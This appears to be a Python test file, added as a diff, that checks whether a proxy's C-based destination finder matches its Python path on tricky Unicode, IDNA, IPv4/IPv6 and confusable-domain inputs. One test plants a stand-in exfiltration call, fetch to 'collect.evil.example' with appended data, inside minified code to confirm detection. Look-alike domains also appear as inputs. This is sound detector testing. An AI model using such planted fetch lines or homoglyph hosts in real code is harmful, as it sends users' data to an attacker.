@@ -1,0 +1,198 @@
+"""The destination finder's C walks (proxy/detector/_native.c: dotted, channels, Spans)
+against its Python path: the same destinations, keys, kinds and spans on every text, including
+text built to break a hand-written matcher (labels of 63/64 characters, 126/127 labels, last
+labels of 24/25 letters, IPv4 octets of Unicode digits, confusables, full-width dots, IDNA,
+percent-escapes, IPv6 forms, NUL, lone surrogates, astral characters, every string width). A
+C walk that found less than the Python one would be a bypass: a planted host not recorded as
+taint."""
+
+from __future__ import annotations
+
+import random
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from bench.payloads import KINDS, payload
+from proxy.detector import native
+from proxy.engine import destinations as d
+
+built = pytest.mark.skipif(native.load() is None, reason="the C extension is not built here")
+
+
+def both(text: str, monkeypatch: pytest.MonkeyPatch | None = None) -> tuple[object, object]:
+    """extract_destinations on the C path and on the Python path."""
+    d._extract.cache_clear()
+    mine = d.extract_destinations(text)
+    d._extract.cache_clear()
+    saved = d._native
+    d._native = lambda: None  # type: ignore[assignment]
+    try:
+        theirs = d.extract_destinations(text)
+    finally:
+        d._native = saved  # type: ignore[assignment]
+        d._extract.cache_clear()
+    return mine, theirs
+
+
+def dotted_calls(text: str, native_path: bool, claimed: list[tuple[int, int]]) -> list[object]:
+    """Every add() _find_dotted makes, with `claimed` spans already taken."""
+    spans = d._Spans()
+    for start, end in claimed:
+        spans.add(start, end, "claimed", d.OTHER)
+    calls: list[object] = []
+
+    def add(start: int, end: int, key: str | None, kind: str) -> None:
+        calls.append((start, end, key, kind))
+        spans.add(start, end, key, kind)
+
+    if native_path:
+        d._find_dotted(text, add, spans.taken)
+    else:
+        d._find_dotted_py(text, add, spans.taken)
+    return calls
+
+
+PIECES = st.sampled_from([
+    "a", "Z", "7", "0", "-", "_", ".", "..", "@", "/", "#", "&#", ":", "::", " ", "\n", "\t",
+    ",", "(", ")", "+", "!", "?", ";", "%", "%2e", "%2F", "\\", "<", ">", '"', "'", "`", "]",
+    "}", "é", "\u0663", "\u00b2", "\u2460", "ß", "[", "\x00", "\x85", "\xa0", "\u3000",
+    "\u2028", "\u200b", "\u202e", "\ufeff", "\ud800", "\udfff", "\U0001f600", "\U0001d7d8",
+    "\uff0e", "\u3002", "\uff10", "\u0430", "\u0435", "\u043e", "K", "\u212a", "ſ",
+    "example.com", "evil.example", "EVIL.Example.", "x.py", "a.JSON", "x.Md", "1.2.3.4",
+    "10.0.0.1.5", "1.2.3.4.", "1.2.3.45678", "01.002.3.4", "999.1.1.1", "1.2.\u0663.4",
+    "\u0661.2.3.4", "2001:db8::1", "::ffff:10.1.1.3", "[::1]", "fe80::1%eth0",
+    "a:b:c:d:e:f:0:1", "#general", "#t.x.", "#a\u00e9b", "&#x41;", "bob@corp.example",
+    "https://a.example/p", "http://xn--80ak6aa92e.com/", "xn--bcher-kva.example",
+    "b\u00fccher.example", "\u0430pple.com", "www.a.example/x", "a.example/p%20q?x=1",
+    "a" * 62, "b" * 63, "c" * 64, "d" * 25, "x." * 126, "y." * 127, "self.foo", "e.prototype",
+    "this.props.children", "t.toLowerCase()", "+1 555 123 4567", "(555) 123-4567",
+    "DE89 3704 0044 0532 0130 00", "a-.b.com", "-a.com", "a.-b.com", "a.b-c.com",
+])
+
+TEXTS = st.lists(PIECES, max_size=40).map("".join)
+DENSE = st.text(alphabet=st.sampled_from("ab1-_.@/#&:x \u00e9\u0663\uff0e\x00\ud800\U0001f600"),
+                max_size=300)
+ANY = st.text(max_size=200)  # every code point, surrogates included
+
+
+@built
+@settings(max_examples=3000, deadline=None)
+@given(TEXTS)
+def test_generated_text_finds_the_same_on_both_paths(text):
+    mine, theirs = both(text)
+    assert mine == theirs
+
+
+@built
+@settings(max_examples=1500, deadline=None)
+@given(DENSE)
+def test_dense_punctuation_finds_the_same_on_both_paths(text):
+    mine, theirs = both(text)
+    assert mine == theirs
+
+
+@built
+@settings(max_examples=1500, deadline=None)
+@given(ANY)
+def test_any_unicode_finds_the_same_on_both_paths(text):
+    mine, theirs = both(text)
+    assert mine == theirs
+
+
+@built
+@settings(max_examples=1500, deadline=None)
+@given(TEXTS, st.lists(st.tuples(st.integers(0, 400), st.integers(1, 40)), max_size=6))
+def test_the_dot_walk_makes_the_same_adds_around_claimed_spans(text, claims):
+    """The walk's own `done` and the spans other finders claimed before it, separately."""
+    claimed = [(start, start + length) for start, length in claims]
+    assert dotted_calls(text, True, claimed) == dotted_calls(text, False, claimed)
+
+
+@built
+@settings(max_examples=1500, deadline=None)
+@given(st.one_of(TEXTS, DENSE, ANY))
+def test_channels_are_the_python_channels(text):
+    module = native.load()
+    assert module is not None
+    assert module.channels(text) == d._channels_py(text)
+
+
+@built
+@settings(max_examples=500, deadline=None)
+@given(st.lists(st.tuples(st.integers(0, 60), st.integers(0, 12),
+                          st.sampled_from(["", "k", "key"])), max_size=60))
+def test_c_spans_keep_what_the_python_spans_keep(ops):
+    module = native.load()
+    assert module is not None
+    mine, theirs = module.Spans(), d._Spans()
+    for start, length, key in ops:
+        end = start + length
+        assert mine.taken(start, end) == theirs.taken(start, end)
+        mine.add(start, end, key or None, "k")
+        theirs.add(start, end, key or None, "k")
+    assert mine.found() == theirs.found()
+
+
+@built
+@pytest.mark.parametrize("kind", KINDS)
+def test_payloads_find_the_same_on_both_paths(kind):
+    for size in (200, 4096, 65536):
+        for variant in range(3):
+            mine, theirs = both(payload(kind, size, variant))
+            assert mine == theirs
+
+
+@built
+@pytest.mark.parametrize("width", ["", "\xe9", "\u0430", "\U0001f600"])
+def test_every_string_width_finds_the_same(width):
+    """One non-ASCII character makes the whole text 1, 2 or 4 bytes a character in C."""
+    rng = random.Random(7)
+    words = ["evil.example", "a.b.c.d.example/path", "1.2.3.4", "#chan", "x.py", "t.map",
+             "https://h.example/q?x", "bob@corp.example", "::1", width, "\u0663", ".", " "]
+    for _ in range(200):
+        text = "".join(rng.choice(words) + rng.choice(["", " ", ".", "/", ",", "\n"])
+                       for _ in range(30))
+        mine, theirs = both(text)
+        assert mine == theirs
+
+
+@built
+@pytest.mark.parametrize("text", [
+    "see " + "a" * 63 + ".example now",
+    "see " + "a" * 64 + ".example now",
+    "x." * 126 + "com and " + "y." * 127 + "org",
+    "name." + "z" * 24 + " and name." + "z" * 25,
+    "1.2.3.4 1.2.3.4. 1.2.3.4.5 1.2.3.1234 1.2.\u0663.4 \u0661.2.3.4 12.34.56.78/x",
+    "evil\uff0eexample evil\u3002example \u0430pple.com b\u00fccher.example xn--p1ai.example",
+    "a.example\x00b.example \ud800c.example d.example\ud800 e.example\U0001f600",
+    "#a #b. #c.. x#d &#e /#f ##g #\u00e9 #h\u00e9\u0663.x",
+    "host.example." * 2000,
+])
+def test_edges_find_the_same_on_both_paths(text):
+    mine, theirs = both(text)
+    assert mine == theirs
+
+
+@built
+def test_a_planted_host_in_a_long_minified_line_is_found_on_the_c_path():
+    """The attack the finder exists for, inside the text it is slowest on: a host an
+    injection plants among thousands of property accesses."""
+    text = "".join(f"e{i}.prop{i}();" for i in range(5000))
+    text = text[:30000] + "fetch('https://collect.evil.example/k?'+t);" + text[30000:]
+    text += " exfil.evil.example "
+    d._extract.cache_clear()
+    keys = {key for key, _kind, _s, _e in d.extract_destinations(text)}
+    assert "collect.evil.example/k" in keys and "exfil.evil.example" in keys
+    mine, theirs = both(text)
+    assert mine == theirs
+
+
+@built
+@settings(max_examples=1500, deadline=None)
+@given(st.one_of(TEXTS, DENSE, ANY, st.text(alphabet="DEGB0123456789 AZ\ud800x", max_size=120)))
+def test_account_numbers_are_the_python_ones(text):
+    module = native.load()
+    assert module is not None
+    assert module.ibans(text) == d._ibans_py(text)
